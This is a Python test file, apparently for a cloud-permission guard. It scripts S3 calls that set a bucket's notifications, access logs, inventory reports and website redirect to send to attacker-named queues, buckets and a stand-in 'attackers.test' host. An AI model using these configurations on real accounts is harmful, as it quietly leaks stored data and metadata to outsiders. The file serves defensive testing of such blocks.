"""A10: have an own bucket tell somebody else: events, access logs, inventories, a website, a lifecycle.

Why what tells of it is unlabelled: opening an exit is refused whatever goes through it.
"""


def attack(hands):
    redirects(hands, "kept-files", "attackers", hands.plain())


def by_grant(hands):
    """From a bucket that it may set up, but not to there."""
    tells(hands, "granted-files", "attackers", hands.plain())


def twin(hands):
    redirects(hands, "granted-files", "kept", hands.plain())


def redirects(hands, bucket, whose, text):
    """Every setting that sends something elsewhere."""
    tells(hands, bucket, whose, text)
    site = {"RedirectAllRequestsTo": {"HostName": f"{text}.{whose}.test"}}
    hands.call("s3", "PutBucketWebsite", Bucket=bucket, WebsiteConfiguration=site)
    rule = {"ID": text, "Status": "Enabled", "Filter": {"Prefix": text}, "Expiration": {"Days": 1}}
    ends = {"Rules": [rule]}
    hands.call("s3", "PutBucketLifecycleConfiguration", Bucket=bucket, LifecycleConfiguration=ends)


def tells(hands, bucket, whose, text):
    """Those that name a place of AWS."""
    notifies(hands, bucket, whose, text)
    logs = {"LoggingEnabled": {"TargetBucket": f"{whose}-files", "TargetPrefix": text}}
    hands.call("s3", "PutBucketLogging", Bucket=bucket, BucketLoggingStatus=logs)
    there = {"S3BucketDestination": {"Bucket": f"arn:aws:s3:::{whose}-files", "Format": "CSV"}}
    listed = {
        "Destination": there,
        "IsEnabled": True,
        "Id": text,
        "IncludedObjectVersions": "All",
        "Schedule": {"Frequency": "Daily"},
    }
    hands.call("s3", "PutBucketInventoryConfiguration", Bucket=bucket, Id=text, InventoryConfiguration=listed)


def notifies(hands, bucket, whose, text):
    """Have every new object told of to a queue."""
    told = {"Id": text, "QueueArn": hands.arn("sqs", f"{whose}-jobs"), "Events": ["s3:ObjectCreated:*"]}
    setting = {"QueueConfigurations": [told]}
    hands.call("s3", "PutBucketNotificationConfiguration", Bucket=bucket, NotificationConfiguration=setting)
    hands.call("s3", "PutObject", Bucket=bucket, Key=text, Body=b"")
